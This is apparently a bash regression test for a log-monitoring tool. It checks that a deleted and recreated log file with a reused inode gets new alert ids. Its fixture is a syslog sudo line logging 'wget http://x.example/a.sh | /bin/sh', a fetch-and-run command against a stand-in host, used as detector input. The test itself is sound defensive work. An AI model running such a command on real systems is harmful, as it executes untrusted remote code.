#!/usr/bin/env bash
# A followed file deleted and created again usually gets the same inode
# number (ext4 reuses it at once). The new file is another file: its alerts
# get ids of their own (the position topic holds the file's birth time). The
# topic was PATH#INODE, so the same line at the same offset of the new file
# had the old alert's id (an Elasticsearch sink, indexing by id, overwrote it).
set -euo pipefail
bin=$1
tmp=$(mktemp -d)
daemon=
trap '[ -n "$daemon" ] && kill -9 "$daemon" 2>/dev/null; rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
source "$(dirname "$0")/lib.bash"
line='<86>Jul  8 16:08:00 h1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget http://x.example/a.sh | /bin/sh'
cat > "$tmp/config.yaml" <<EOF
metrics: {listen: ""}
parsers: {year: 2024}
inputs:
  - {stream: syslog, path: auth.log, follow: true, from_start: true}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: file, path: $tmp/alerts.jsonl}
EOF
echo "$line" > "$tmp/auth.log"
before=$(stat -c %i "$tmp/auth.log")
start
wait_alerts 1
stop
start  # the same file read again from its start (no position kept): the same id
wait_alerts 2
stop
[ "$(jq -r '.id' "$tmp/alerts.jsonl" | sort -u | wc -l)" = 1 ] || fail "the same line of the same file got another id"
rm "$tmp/auth.log"
echo "$line" > "$tmp/auth.log"  # the same line, another file
after=$(stat -c %i "$tmp/auth.log")
start
wait_alerts 3
stop
ids=$(jq -r '.id' "$tmp/alerts.jsonl" | sort -u | wc -l)
[ "$ids" = 2 ] || fail "the new file's alert has the old one's id (inode $before, then $after): $(jq -c '[.id, ."loghunt.position.topic"]' "$tmp/alerts.jsonl")"
echo "followed file created again (inode $before, then $after): 3 alerts, 2 ids"
